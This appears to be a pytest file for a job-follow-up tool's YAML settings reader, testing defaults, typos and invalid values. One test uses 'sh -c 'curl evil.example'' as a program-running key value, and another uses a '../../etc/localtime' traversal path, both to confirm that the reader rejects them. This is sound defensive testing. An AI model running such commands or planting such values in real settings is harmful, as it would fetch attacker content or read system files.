"""heardback.yaml: every key, and what is wrong with one."""

from __future__ import annotations

from dataclasses import fields, replace
from datetime import date
from zoneinfo import ZoneInfo

import pytest

from heardback.domain.application import Me
from heardback.domain.policy import Policy
from heardback.domain.problem import Problem
from heardback.folder.settings import LinkedIn, Settings, read_settings
from heardback.folder.zones import UnknownZoneError


def _sole(text: str) -> tuple[Settings, Problem]:
    settings = read_settings(text.encode())
    assert len(settings.problems) == 1, [str(p) for p in settings.problems]
    return settings, settings.problems[0]


def test_everything_that_it_can_say() -> None:
    settings = read_settings(
        b"""\
# mine
me: {name: Naledi Mokoena, email: naledi@mail.example, phone: +27 82 555 0100, headline: data engineer,
     strengths: [calm migrations, "plain words, in time"]}
timezone: Africa/Johannesburg
region: ZA
extra_holidays: [2026-12-24]
weekend: [Fri, saturday]
english: en-ZA
linkedin: premium
etiquette: {follow_up_days: 10, max_nudges: 0}
words: [Flink, dbt, no]
"""
    )
    assert settings.problems == ()
    strengths = ("calm migrations", "plain words, in time")
    assert settings.me == Me(
        "Naledi Mokoena", "naledi@mail.example", "+27 82 555 0100", "data engineer", strengths
    )
    assert settings.weekend == frozenset({4, 5})
    assert settings.zone_for_writing is settings.zone
    assert settings.timezone == "Africa/Johannesburg"
    assert settings.zone == ZoneInfo("Africa/Johannesburg")
    assert (settings.region, settings.english) == ("ZA", "en-ZA")
    assert settings.extra_holidays == (date(2026, 12, 24),)
    assert (settings.linkedin, settings.linkedin.note_limit) == (LinkedIn.PREMIUM, 300)
    assert settings.policy == Policy(follow_up_days=10, max_nudges=0)
    assert settings.words == ("Flink", "dbt", "no")


@pytest.mark.parametrize(
    "content", [b"", b"\n", b"# nothing\n", b"---\n", b"me:\netiquette: {}\nwords: []\n"]
)
def test_an_empty_file_means_all_defaults(content: bytes) -> None:
    assert replace(read_settings(content), region_place=(None, None)) == Settings()
    assert Settings().linkedin.note_limit == 200


def test_the_default_numbers() -> None:
    assert {f.name: f.default for f in fields(Policy)} == {
        "thank_you_opens_hours": 1,
        "thank_you_due_hours": 24,
        "thank_you_missed_days": 7,
        "promise_business_days": 1,
        "follow_up_days": 7,
        "follow_up_business_days": 5,
        "follow_up_gap_days": 7,
        "max_follow_ups": 2,
        "nudge_business_days": 10,
        "max_nudges": 1,
        "feedback_opens_days": 1,
        "feedback_due_days": 2,
        "feedback_until_days": 14,
        "answer_offer_opens_days": 2,
        "keep_in_touch_days": 90,
        "keep_in_touch_until_days": 365,
        "let_go_days": 60,
    }


@pytest.mark.parametrize("name", [f.name for f in fields(Policy)])
def test_every_number_can_be_set_by_its_name(name: str) -> None:
    settings = read_settings(f"etiquette:\n  {name}: 33\n".encode())
    assert settings.problems == ()
    assert settings.policy == Policy(**{name: 33})


@pytest.mark.parametrize("number", ["seven", "-1", "3651", "1.5", "1e3", "٣", "[7]", "99999999999999999999"])
def test_a_wrong_number_is_pointed_out_and_the_default_stays(number: str) -> None:
    settings, problem = _sole(f"timezone: UTC\netiquette:\n  max_nudges: 2\n  follow_up_days: {number}\n")
    assert settings.policy == Policy(max_nudges=2)
    assert (problem.file, problem.line, problem.column) == ("heardback.yaml", 4, 19)
    assert problem.field == "etiquette.follow_up_days"


def test_a_number_that_does_not_exist_is_pointed_out() -> None:
    _, problem = _sole("etiquette: {follow_up_day: 7}\n")
    assert problem.field == "etiquette.follow_up_day"
    assert "follow_up_days" in problem.hint


@pytest.mark.parametrize("key", ["editor", "mail_command", "theme", "keymap"])
def test_what_runs_a_program_is_not_read_from_a_folder(key: str) -> None:
    settings, problem = _sole(f"{key}: sh -c 'curl evil.example'\n")
    assert not hasattr(settings, key)
    assert problem.field == key
    assert "own config" in problem.hint


def test_an_unknown_key_is_pointed_out() -> None:
    _, problem = _sole("region: ZA\ntimezon: Europe/Berlin\n")
    assert (problem.line, problem.column, problem.field) == (2, 10, "timezon")
    assert "timezon" in problem.message


@pytest.mark.parametrize(
    ("text", "field", "piece"),
    [
        ("timezone: Cape Town\n", "timezone", "isn't a time zone"),
        ("timezone: ../../etc/localtime\n", "timezone", "isn't a time zone"),
        ("english: en-NZ\n", "english", "an English"),
        ("linkedin: gold\n", "linkedin", "gold"),
        ("extra_holidays: [2026-02-30]\n", "extra_holidays", "no day 30"),
        ("extra_holidays: {a: b}\n", "extra_holidays", "a list"),
        ("me: Naledi\n", "me", "a block"),
        ("me: {name: [Naledi]}\n", "me.name", "a text"),
        ("etiquette: strict\n", "etiquette", "a block"),
        ("words: {a: b}\n", "words", "a list"),
        ("weekend: [fri, caturday]\n", "weekend", "caturday"),
        ("weekend: [mon, tue, wed, thu, fri, sat, sun]\n", "weekend", "isn't a weekend"),
        ("weekend: t\n", "weekend", "isn't a weekend"),
        ("weekend: {a: b}\n", "weekend", "a list"),
        ("region: [ZA]\n", "region", "a text"),
        ("region: ZA\nregion: GB\n", "region", "twice"),
    ],
)
def test_a_wrong_value_has_its_default_and_a_problem(text: str, field: str, piece: str) -> None:
    settings, problem = _sole(text)
    assert (problem.field or "").startswith(field)
    assert piece in problem.message
    assert (settings.timezone, settings.english, settings.linkedin) == (None, "en-GB", LinkedIn.FREE)


@pytest.mark.parametrize(
    ("content", "line"),
    [
        (b"region: ZA\nenglish: 'en-ZA\n", 2),
        (b"---\nregion: ZA\nenglish: 'en-ZA\n", 3),
        (b"\xef\xbb\xbfregion: ZA\nenglish: 'en-ZA\n", 2),
        (b"region: ZA\r\nenglish: 'en-ZA\r\n", 2),
        (b"- ZA\n", 1),
        (b"ZA\n", 1),
        (b"region: \xff\n", 1),
        (b"region: ZA\n\tenglish: x\n", 2),
    ],
)
def test_a_file_that_cannot_be_read_says_where(content: bytes, line: int) -> None:
    settings = read_settings(content)
    assert settings == Settings(problems=settings.problems, zone_problem=settings.problems[0])
    assert [p.line for p in settings.problems] == [line]


def test_a_file_may_begin_and_end_as_yaml_documents_do() -> None:
    assert read_settings(b"---\nregion: ZA\n").region == "ZA"
    assert read_settings(b"\xef\xbb\xbfregion: ZA\r\nenglish: en-IN").english == "en-IN"


@pytest.mark.parametrize(("written", "meant"), [("EN-za", "en-ZA"), ("en_US", "en-US"), ("en-AU", "en-AU")])
def test_an_english_is_known_whatever_its_case(written: str, meant: str) -> None:
    settings = read_settings(f"english: {written}\n".encode())
    assert (settings.english, settings.problems) == (meant, ())


def test_a_problem_names_the_lines_of_the_file() -> None:
    _, problem = _sole("# mine\ntimezone: UTC\nregion: ZA\ntimezone: Africa/Johannesburg\n")
    assert (problem.line, problem.field) == (4, "timezone")
    assert "on line 2 and on line 4" in problem.message
    _, problem = _sole("me: {name: Naledi, mail: naledi@mail.example}\n")
    assert (problem.field, problem.line, problem.column) == ("me.mail", 1, 26)


@pytest.mark.parametrize(
    ("written", "days"),
    [
        ("[sat, sun]", {5, 6}),
        ("Friday", {4}),
        ("[fri., SATURDAYS]", {4, 5}),
        ("[Thu, thurs]", {3}),
        ("[]", None),
    ],
)
def test_a_weekend_is_written_as_people_write_days(written: str, days: set[int] | None) -> None:
    settings = read_settings(f"weekend: {written}\n".encode())
    assert (settings.weekend and set(settings.weekend), settings.problems) == (days, ())


@pytest.mark.parametrize(
    ("content", "line"),
    [
        (b"region: ZA\nenglish: 'en-ZA\n", 2),
        (b"region: ZA\ntimezone: Africa/Johanesburg\n", 2),
        (b"timezone: [UTC]\n", 1),
        (b"region: ZA\ntimezon: Africa/Johannesburg\n", 2),
        (b"Timezone: Africa/Johannesburg\n", 1),
        (b"time_zone: Africa/Johannesburg\n", 1),
        (b"time-zone: Africa/Johannesburg\n", 1),
        (b"tz: Africa/Johannesburg\n", 1),
        (b"timezone: UTC\ntimezone: Africa/Johannesburg\n", 2),
        ("timezone: Africa/Johannesburg\n".encode("utf-16"), 1),
        (b"timezone: Africa/Johannesburg\0\n", 1),
        (b"<<<<<<< HEAD\ntimezone: UTC\n=======\ntimezone: Africa/Johannesburg\n>>>>>>> theirs\n", 1),
    ],
)
def test_a_zone_that_cannot_be_read_is_unknown_and_no_other_is_written_in(content: bytes, line: int) -> None:
    settings = read_settings(content)
    assert settings.zone_problem in settings.problems
    assert settings.zone is not None, "reading goes on"
    with pytest.raises(UnknownZoneError, match=rf"heardback.yaml:{line}\b"):
        _ = settings.zone_for_writing


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"english: en-NZ\nlinkedin: gold\netiquette: {follow_up_days: soon}\n",
        b"me: {name: [Naledi]}\nzone_of_comfort: small\n",
        b"timezone: Africa/Johannesburg\nzone: home\n",
        b"timezone:\n",
    ],
)
def test_other_problems_leave_the_zone_known(content: bytes) -> None:
    settings = read_settings(content)
    assert settings.zone_for_writing is settings.zone


@pytest.mark.parametrize(
    ("key", "meant"),
    [
        ("regon", "region"),
        ("Region", "region"),
        ("country", "region"),
        ("week-end", "weekend"),
        ("word", "words"),
    ],
)
def test_a_key_that_is_nearly_ours_names_ours(key: str, meant: str) -> None:
    _, problem = _sole(f"{key}: x\n")
    assert (problem.field, problem.hint) == (key, f"Did you mean `{meant}`?")


def test_a_zone_that_is_nearly_one_names_it() -> None:
    _, problem = _sole("timezone: Africa/Johanesburg\n")
    assert problem.hint == "Did you mean Africa/Johannesburg?"
